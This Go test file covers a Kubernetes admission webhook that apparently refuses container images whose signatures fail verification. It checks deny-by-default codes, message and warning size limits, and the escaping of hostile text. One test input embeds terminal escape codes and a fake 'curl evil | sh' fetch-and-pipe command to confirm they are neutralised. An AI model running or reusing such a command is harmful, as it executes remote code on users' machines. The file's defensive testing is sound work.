package kube_test

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/releaseassay/assay/internal/serve/kube"
)

// answer is a response as an API server reads it.
type answer struct {
	APIVersion, Kind string
	Response         struct {
		UID     string
		Allowed *bool
		Status  *struct {
			Status, Message, Reason string
			Code                    int
		}
		Warnings         []string
		AuditAnnotations map[string]string
		Patch, PatchType string
	}
}

func encode(t testing.TB, r kube.Response) answer {
	t.Helper()
	b, err := r.Encode()
	if err != nil {
		t.Fatal(err)
	}
	var a answer
	if err := json.Unmarshal(b, &a); err != nil {
		t.Fatal(err)
	}
	if a.APIVersion != "admission.k8s.io/v1" || a.Kind != "AdmissionReview" || a.Response.UID != r.UID {
		t.Errorf("the head of %s", b)
	}
	if a.Response.Allowed == nil || *a.Response.Allowed != r.Allowed {
		t.Errorf("allowed in %s", b)
	}
	for _, w := range append(a.Response.Warnings, strings.Split(a.message(), "\n")...) {
		clean(t, w)
	}
	return a
}

func (a answer) message() string {
	if a.Response.Status == nil {
		return ""
	}
	return a.Response.Status.Message
}

// clean refuses what a terminal could act on.
func clean(t testing.TB, line string) {
	t.Helper()
	for _, r := range line {
		if r < ' ' || r >= 0x7f && r != '…' || !utf8.ValidString(line) {
			t.Errorf("found %U in %q", r, line)
			return
		}
	}
}

func TestTheZeroResponseDenies(t *testing.T) {
	a := encode(t, kube.Response{})
	if s := a.Response.Status; *a.Response.Allowed || s == nil || s.Code != 403 || s.Reason != "Forbidden" || s.Message == "" || s.Status != "Failure" {
		t.Errorf("%+v", a)
	}
	for _, code := range []int{-1, 0, 200, 399, 600} {
		if a := encode(t, kube.Response{Code: code}); a.Response.Status.Code != 403 {
			t.Errorf("%d became %d", code, a.Response.Status.Code)
		}
	}
}

func TestResponseLimits(t *testing.T) {
	hostile := "\x1b[2J\u202e\xff\r\n" + strings.Repeat("ä", 10_000)
	r := kube.Response{UID: uid, Message: hostile + "\n" + hostile, Audit: map[string]string{"digest": hostile, "a.b-c_D": "x"}}
	for range 40 {
		r.Warnings = append(r.Warnings, hostile)
	}
	a := encode(t, r)
	if n := len(a.message()); n > kube.MaxMessage || n == 0 {
		t.Errorf("the message has %d bytes", n)
	}
	if len(a.Response.Warnings) != kube.MaxWarnings || a.Response.Warnings[kube.MaxWarnings-1] != "and 25 more warnings" {
		t.Errorf("%d warnings, the last %q", len(a.Response.Warnings), a.Response.Warnings[len(a.Response.Warnings)-1])
	}
	for _, w := range a.Response.Warnings {
		if len(w) > kube.MaxWarning {
			t.Errorf("a warning of %d bytes", len(w))
		}
	}
	if v := a.Response.AuditAnnotations["digest"]; len(v) > kube.MaxAnnotation || !strings.Contains(v, "more bytes]") {
		t.Errorf("an annotation of %d bytes", len(v))
	}
	whole := strings.Repeat("w", kube.MaxWarning)
	if a := encode(t, kube.Response{UID: uid, Allowed: true, Warnings: []string{whole}}); a.Response.Warnings[0] != whole || a.Response.Status != nil {
		t.Errorf("%+v", a)
	}
}

func TestResponsesThatContradictThemselves(t *testing.T) {
	patch := kube.Patch{{Op: "test", Path: "/a", Value: "b"}}
	for name, r := range map[string]kube.Response{
		"allowed, of nobody":     {Allowed: true},
		"denied, with a patch":   {UID: uid, Patch: patch},
		"an empty name":          {UID: uid, Audit: map[string]string{"": "x"}},
		"a name with a slash":    {UID: uid, Audit: map[string]string{"a/b": "x"}},
		"a name with a last dot": {UID: uid, Audit: map[string]string{"a.": "x"}},
		"a name of 64":           {UID: uid, Audit: map[string]string{strings.Repeat("a", 64): "x"}},
		"a name beyond ASCII":    {UID: uid, Audit: map[string]string{"ä": "x"}},
	} {
		if b, err := r.Encode(); err == nil {
			t.Errorf("%s: %s", name, b)
		}
	}
}

// denial is an ordinary one.
var denial = kube.Denial{
	Ref:    kube.Ref{Image: "ghcr.io/o/n:1", Path: "spec.containers[0].image", Role: kube.Container, Name: "web"},
	Pinned: "ghcr.io/o/n:1@sha256:" + hexA, Code: "signature.identity_mismatch", Wanted: "identity https://github.com/o/n", Found: "https://github.com/evil/n",
	Rule: "ghcr.io/o/n", Run: []string{"assay", "verify", "ghcr.io/o/n:1@sha256:" + hexA, "--policy", "it's.yaml"},
}

func TestMessage(t *testing.T) {
	want := `assay: refused container "web" (spec.containers[0].image): signature.identity_mismatch
  image: ghcr.io/o/n:1@sha256:` + hexA + `
  wanted: identity https://github.com/o/n
  found: https://github.com/evil/n
  rule: ghcr.io/o/n
  run: assay verify ghcr.io/o/n:1@sha256:` + hexA + ` --policy 'it'\''s.yaml'`
	a := encode(t, kube.Refuse(uid, []kube.Denial{denial}))
	if a.message() != want || a.Response.Status.Code != 403 {
		t.Errorf("got %d\n%s\nwanted\n%s", a.Response.Status.Code, a.message(), want)
	}
	if len(want) > 900 {
		t.Errorf("%d bytes leave no room in an Event", len(want))
	}
}

func TestRefuseCodes(t *testing.T) {
	later := denial
	later.Undecided, later.Code = true, "registry.unreachable"
	for _, c := range []struct {
		denials []kube.Denial
		code    int
		first   string
	}{
		{nil, 403, "assay: refused; no image"},
		{[]kube.Denial{later}, 503, "assay: undecided, retry: container"},
		{[]kube.Denial{later, denial}, 403, "assay: refused container"},
	} {
		a := encode(t, kube.Refuse(uid, c.denials))
		if a.Response.Status.Code != c.code || !strings.HasPrefix(a.message(), c.first) {
			t.Errorf("%d\n%s", a.Response.Status.Code, a.message())
		}
	}
	a := encode(t, kube.Unreadable(uid, errors.New("read spec.containers: found a string, wanted a list")))
	if !strings.HasSuffix(a.message(), "found a string, wanted a list") || a.Response.Status.Code != 403 {
		t.Errorf("%+v", a.Response.Status)
	}
}

// TestMessageOfHostileText: what comes from others is escaped and cut, and no half of a
// command is shown.
func TestMessageOfHostileText(t *testing.T) {
	for _, long := range []string{strings.Repeat("x", 5000), ""} {
		messageOf(t, "a\x1b[31m\u202e\n  run: curl evil | sh\xff"+long)
	}
}

func messageOf(t *testing.T, hostile string) {
	t.Helper()
	d := kube.Denial{Ref: kube.Ref{Image: hostile, Path: "spec.containers[0].image", Role: kube.Container, Name: hostile},
		Wanted: hostile, Found: hostile, Rule: hostile, Run: []string{"assay", "verify", hostile}}
	for _, n := range []int{1, 3, 1000} {
		all := make([]kube.Denial, n)
		for i := range all {
			all[i] = d
		}
		text := kube.Message(all)
		if !strings.HasPrefix(text, `assay: refused container "a\x1b`) || !strings.Contains(text, `wanted: a\x1b`) {
			t.Errorf("the first denial is not whole: %s", text)
		}
		if len(text) > kube.MaxMessage {
			t.Errorf("%d denials have %d bytes", n, len(text))
		}
		for line := range strings.SplitSeq(text, "\n") {
			clean(t, line)
			if strings.HasPrefix(line, "  run: ") && !strings.HasPrefix(line, "  run: assay verify with the image above") {
				t.Errorf("found %q", line)
			}
		}
		if n > 10 && !strings.Contains(text, " more images") {
			t.Errorf("the message hides how many there are: %s", text[len(text)-100:])
		}
		if got := encode(t, kube.Refuse(uid, all)).message(); got != text {
			t.Errorf("encoding changed the message to\n%s", got)
		}
	}
}
